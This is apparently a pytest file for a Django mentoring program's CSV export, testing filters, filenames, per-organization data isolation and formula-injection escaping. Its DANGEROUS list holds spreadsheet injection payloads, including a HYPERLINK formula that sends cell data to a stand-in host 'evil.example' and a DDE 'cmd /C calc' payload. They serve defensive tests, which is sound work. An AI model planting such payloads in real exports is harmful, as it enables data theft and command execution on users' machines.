"""Export: streamed CSV with a BOM, filters as shown, formula-injection safe, own data only."""

import csv
import io

import pytest
from django.urls import reverse
from django.utils import timezone

from pairing.export import safe_cell
from pairing.models import MentorRequest, Pairing
from tests import factories
from tests.conftest import MARKER
from tests.pairing.test_active import pair

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u00a0 @SUM(A1)",
    'Line one\n=HYPERLINK("x")',
    "ok\r\n  -1",
    "\x00abc",
]
SAFE = ["Ada", "12", "O'Brien", "a=b", "x@example.org", "multi\nline text", ""]


def _read(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body[1:], newline="")))


@pytest.mark.parametrize("cell", DANGEROUS)
def test_dangerous_cells_get_a_leading_quote(cell):
    assert safe_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", SAFE)
def test_harmless_cells_are_left_alone(cell):
    assert safe_cell(cell) == cell


# PostgreSQL cannot store NUL in text, so that one is only checked cell by cell above.
STORABLE = [value for value in DANGEROUS if "\x00" not in value]


def test_injection_table_survives_a_round_trip_through_csv_reader(program, org_admin_client):
    for value in STORABLE:
        mentee = factories.ParticipantFactory(program=program, first_name=value, last_name="")
        pair(program, mentee=mentee)
    url = reverse("pairing:export_active", kwargs={"program_id": program.pk})
    rows = _read(org_admin_client.get(url + "?sort=mentee"))
    names = {row[0] for row in rows[1:]}
    assert len(names) == len(STORABLE)
    for value in STORABLE:
        assert "'" + value in names, repr(value)
    assert all(name.startswith("'") for name in names)


def test_active_export_has_header_filename_and_the_filters_shown(program, org_admin_client):
    program.name = "Spring Cohort 2026"
    program.save()
    quiet = pair(program, days_ago=40)
    quiet.mentee.first_name = "Quentin"
    quiet.mentee.save()
    pair(program, days_ago=2)
    url = reverse("pairing:export_active", kwargs={"program_id": program.pk})
    response = org_admin_client.get(url)
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    day = timezone.localdate()
    assert (
        f'filename="spring-cohort-2026-active-pairings-{day:%Y-%m-%d}.csv"'
        in response["Content-Disposition"]
    )
    rows = _read(response)
    assert rows[0][:4] == ["Mentee", "Mentee email", "Mentor", "Mentor email"]
    assert len(rows) == 3
    rows = _read(org_admin_client.get(url + "?health=check_in"))
    assert len(rows) == 2 and rows[1][0].startswith("Quentin") and rows[1][-1] == "Needs Check-in"
    rows = _read(org_admin_client.get(url + "?q=nobody-matches"))
    assert len(rows) == 1


def test_exports_never_contain_another_organizations_rows(program, org_admin_client, other_org):
    elsewhere = factories.ProgramFactory(organization=other_org)
    spy = factories.ParticipantFactory(program=elsewhere, first_name="Leak", last_name="Spy")
    mentor = factories.MentorFactory(program=elsewhere, first_name="Leak", last_name="Mentor")
    Pairing.objects.create(program=elsewhere, mentee=spy, mentor=mentor, origin="admin")
    lonely = factories.ParticipantFactory(program=elsewhere, first_name="Leak", last_name="Lone")
    MentorRequest.objects.create(
        program=elsewhere, mentee=lonely, mentor=mentor, expires_at=timezone.now()
    )
    pair(program)
    factories.ParticipantFactory(program=program, first_name="Own", last_name=MARKER)
    for name in ("export_active", "export_unpaired", "export_requests"):
        url = reverse(f"pairing:{name}", kwargs={"program_id": program.pk})
        body = b"".join(org_admin_client.get(url).streaming_content).decode()
        assert "Leak" not in body, name


def test_outsider_gets_404_for_exports(program, other_admin_client):
    pair(program)
    for name in ("export_active", "export_unpaired", "export_requests"):
        url = reverse(f"pairing:{name}", kwargs={"program_id": program.pk})
        assert other_admin_client.get(url).status_code == 404


def test_unpaired_export_lists_mentees_without_an_active_pairing(program, org_admin_client):
    paired = pair(program)
    waiting = factories.ParticipantFactory(program=program, first_name="Wanda")
    MentorRequest.objects.create(
        program=program, mentee=waiting, mentor=paired.mentor, expires_at=timezone.now()
    )
    factories.ParticipantFactory(program=program, first_name="Nadia")
    url = reverse("pairing:export_unpaired", kwargs={"program_id": program.pk})
    response = org_admin_client.get(url)
    assert "unpaired-mentees-" in response["Content-Disposition"]
    rows = _read(response)
    by_name = {row[0]: row for row in rows[1:]}
    assert set(by_name) == {"Wanda", "Nadia"}
    assert by_name["Nadia"][6] == "Not Invited by Admin"
    assert by_name["Wanda"][7] == paired.mentor.email


def test_requests_export_has_every_request_and_filters_by_status(program, org_admin_client):
    mentor = factories.MentorFactory(program=program)
    a = factories.ParticipantFactory(program=program)
    b = factories.ParticipantFactory(program=program)
    MentorRequest.objects.create(
        program=program, mentee=a, mentor=mentor, expires_at=timezone.now(), note="=1+1"
    )
    MentorRequest.objects.create(
        program=program, mentee=b, mentor=mentor, expires_at=timezone.now(),
        status="declined", decided_at=timezone.now(),
    )  # fmt: skip
    url = reverse("pairing:export_requests", kwargs={"program_id": program.pk})
    rows = _read(org_admin_client.get(url))
    assert len(rows) == 3
    assert "'=1+1" in [row[9] for row in rows[1:]]
    rows = _read(org_admin_client.get(url + "?status=declined"))
    assert len(rows) == 2 and rows[1][6] == "Declined"
